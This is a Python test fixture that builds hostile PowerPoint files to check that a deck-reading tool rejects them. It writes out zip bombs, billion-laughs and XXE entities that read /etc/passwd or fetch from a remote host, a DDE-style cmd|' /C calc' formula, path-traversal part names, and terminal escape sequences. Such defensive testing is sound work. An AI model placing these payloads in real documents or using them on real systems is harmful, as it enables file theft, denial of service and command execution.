"""Hostile decks by name: a deck that briefgen wrote, edited to harm whoever reads it back."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from hostile_cases import META, METRIC

BRIEF = META + METRIC + "deck: [{title: 乙, blocks: [{column: a}]}, {title: 丙, blocks: [{kpi: a}]}]\n"
MAIN, SLIDE, CHART = "ppt/presentation.xml", "ppt/slides/slide1.xml", "ppt/charts/chart1.xml"
P = "http://schemas.openxmlformats.org/presentationml/2006/main"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"
STEERING = "\x9b\u202e2Jx"
Parts = dict[str, bytes]


@dataclass(frozen=True)
class Harm:
    """A harmful file: how it is made of a sound one, the exit code it deserves, and words of the answer."""

    made: Callable[[bytes], bytes]
    says: tuple[str, ...] = ()
    codes: tuple[int, ...] = (2,)


def unzipped(data: bytes) -> Parts:
    """Return a zip's members."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(parts: Mapping[str, bytes]) -> bytes:
    """Return a packed zip of the members."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return data.getvalue()


def edited(**changes: Callable[[Parts], Parts]) -> Callable[[bytes], bytes]:
    """Return what changes a deck's parts."""

    def made(deck: bytes) -> bytes:
        parts = unzipped(deck)
        for change in changes.values():
            parts |= change(parts)
        return zipped(parts)

    return made


def put(name: str, content: bytes) -> Callable[[bytes], bytes]:
    """Return what puts a part into a deck."""
    return edited(put=lambda parts: {name: content})


def replaced(name: str, old: str, new: str) -> Callable[[bytes], bytes]:
    """Return what replaces text in a part, by a pattern."""

    def change(parts: Parts) -> Parts:
        text, count = re.subn(old, new, parts[name].decode(), flags=re.DOTALL)
        assert count, f"{old!r} is not in {name}"
        return {name: text.encode()}

    return edited(change=change)


def bombed_book(deck: bytes) -> bytes:
    """Return a deck whose chart has a workbook with a sheet of 300 MB."""
    parts = unzipped(deck)
    book = next(name for name in parts if name.endswith(".xlsx"))
    inner = unzipped(parts[book]) | {"xl/worksheets/sheet1.xml": bytes(300 << 20)}
    return zipped(parts | {book: zipped(inner)})


def linked_book(deck: bytes) -> bytes:
    """Return a deck whose chart's workbook has a link to another machine and a formula that asks it."""
    parts = unzipped(deck)
    book = next(name for name in parts if name.endswith(".xlsx"))
    inner = unzipped(parts[book])
    sheet = inner["xl/worksheets/sheet1.xml"].decode()
    cell = '<row r="99"><c r="A99"><f>[1]Sheet1!A1+cmd|\' /C calc\'!A0</f><v>1</v></c></row></sheetData>'
    inner["xl/worksheets/sheet1.xml"] = sheet.replace("</sheetData>", cell).encode()
    inner["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
        b'Id="rId1" Type="x/externalLinkPath" Target="http://192.0.2.1/a.xlsx" TargetMode="External"/>'
        b"</Relationships>"
    )
    return zipped(parts | {book: zipped(inner)})


def twins(deck: bytes) -> bytes:
    """Return a deck with a second slide 1 in other letters, which some applications would show."""
    parts = unzipped(deck)
    return zipped(parts | {SLIDE.replace("slide1", "SLIDE1"): parts[SLIDE].replace(b"20", b"99")})


def many_slides(deck: bytes) -> bytes:
    """Return a deck that shows its first slide 10,000 times."""
    entry = '<p:sldId id="{}" r:id="{}"/>'
    parts = unzipped(deck)
    text = parts[MAIN].decode()
    key = re.search(r'<p:sldId [^>]*r:id="([^"]+)"', text)
    assert key
    ids = "".join(entry.format(300 + number, key[1]) for number in range(10_000))
    return zipped(parts | {MAIN: text.replace("</p:sldIdLst>", ids + "</p:sldIdLst>").encode()})


def laughing(kind: str) -> bytes:
    """Return XML whose entities would unpack to gigabytes, or fetch a file."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    entities = {
        "laughs": f'<!ENTITY l0 "ha">{laughs}',
        "file": '<!ENTITY l9 SYSTEM "file:///etc/passwd">',
        "net": '<!ENTITY l9 SYSTEM "http://192.0.2.1/x">',
        "parameter": '<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;',
    }[kind]
    head = '<?xml version="1.0" encoding="UTF-8"?>'
    return f'{head}<!DOCTYPE p [{entities}]><p:sld xmlns:p="{P}">&l9;</p:sld>'.encode()


def worded(number: int, more: str = "") -> bytes:
    """Return a shape that states a figure."""
    body = f"<a:p><a:r><a:t>{number}家{more}</a:t></a:r></a:p>"
    return (
        f'<p:sp xmlns:p="{P}" xmlns:a="{A}"><p:nvSpPr><p:cNvPr id="9" name="x"/></p:nvSpPr>'
        f"<p:spPr/><p:txBody><a:bodyPr/>{body}</p:txBody></p:sp>"
    ).encode()


def flagged(deck: bytes) -> bytes:
    """Return a deck that says that its parts are encrypted."""
    data = bytearray(deck)
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        data[at + 8] |= 1
        at += 4
    return bytes(data)


NAMESPACED = f'<p:sld xmlns:p="{P}">'.encode()
DECKS = {
    "a slide of 400 MB": Harm(put(SLIDE, bytes(400 << 20)), ("unpacks to far more",)),
    "a slide of 3 million elements": Harm(
        put(SLIDE, NAMESPACED + b"<a b='c'/>" * 3_000_000 + b"</p:sld>"), ("far more than a deck",)
    ),
    "a slide 100,000 deep": Harm(put(SLIDE, NAMESPACED + b"<a>" * 100_000), ("is not XML",)),
    "a slide of a million attributes": Harm(
        put(SLIDE, b"<a " + b" ".join(b"a%d='1'" % n for n in range(300_000)) + b"/>"), codes=(1, 2)
    ),
    "a word of 12 MB": Harm(put(SLIDE, NAMESPACED + b"x" * 12_000_000 + b"</p:sld>"), codes=(1, 2)),
    "a workbook of 300 MB in a chart": Harm(bombed_book, codes=(1, 2)),
    "a workbook with a link and a formula": Harm(linked_book, ("=[1]Sheet1!A1+cmd",), (1,)),
    "entities that unpack to gigabytes": Harm(put(SLIDE, laughing("laughs")), ("defines entities",)),
    "an entity that reads a file": Harm(put(SLIDE, laughing("file")), ("defines entities",)),
    "an entity from the net": Harm(put(SLIDE, laughing("net")), ("defines entities",)),
    "a parameter entity from the net": Harm(put(CHART, laughing("parameter")), ("defines entities",)),
    "entities in UTF-16": Harm(put(SLIDE, laughing("file").decode().encode("utf-16")), ("is not UTF-8",)),
    "entities in UTF-7": Harm(
        put(SLIDE, laughing("file").replace(b"UTF-8", b"UTF-7").replace(b"<!", b"+ADwAIQ-")),
        ("is not UTF-8",),
    ),
    "10,000 slides": Harm(many_slides, ("more than 2000 are not read",)),
    "12,000 parts": Harm(
        lambda deck: zipped(unzipped(deck) | {f"x/{n}": b"" for n in range(12_000)}), ("parts: more than",)
    ),
    "parts with names that climb": Harm(
        lambda deck: zipped(unzipped(deck) | {"../../../climbed": b"x", "/tmp/climbed": b"x"}), codes=(0,)
    ),
    "a slide that is a file of the machine": Harm(
        replaced(
            "ppt/_rels/presentation.xml.rels", r'Target="[^"]*slide1.xml"', 'Target="../../../etc/passwd"'
        ),
        ("which is not in it",),
    ),
    "a slide on another machine": Harm(
        replaced(
            "ppt/_rels/presentation.xml.rels",
            r'Target="[^"]*slide1.xml"',
            'Target="http://192.0.2.1/slide1.xml" TargetMode="External"',
        ),
        ("slide 1 is missing",),
    ),
    "two parts of one name": Harm(twins, ("two parts named",)),
    "a chart of a million cells": Harm(
        replaced(CHART, r"<c:f>[^<]*</c:f>", "<c:f>Sheet1!$A$1:$ZZ$9999999</c:f>"), codes=(0, 1)
    ),
    "9,000 further figures": Harm(
        edited(
            put=lambda parts: {
                SLIDE: parts[SLIDE].replace(
                    b"</p:spTree>", b"".join(map(worded, range(9_000))) + b"</p:spTree>"
                )
            }
        ),
        ("more\n",),
        (1,),
    ),
    "words that steer a terminal": Harm(
        edited(
            put=lambda parts: {
                SLIDE: parts[SLIDE].replace(b"</p:spTree>", worded(7, STEERING) + b"</p:spTree>")
            }
        ),
        ("7家��",),
        (1,),
    ),
    "numbers beyond all measure": Harm(
        replaced(CHART, r"<c:v>[0-9.]+</c:v>", f"<c:v>{'9' * 100_000}</c:v>"), codes=(1, 2)
    ),
    "parts that are said to be locked": Harm(flagged, ("locked with a password",)),
    "a deck cut in half": Harm(lambda deck: deck[: len(deck) // 2], ("cut short",)),
    "a deck of nothing": Harm(lambda deck: b"", ("not an Office file",)),
    "a folder of zeros": Harm(lambda deck: bytes(1 << 20), ("not an Office file",)),
}
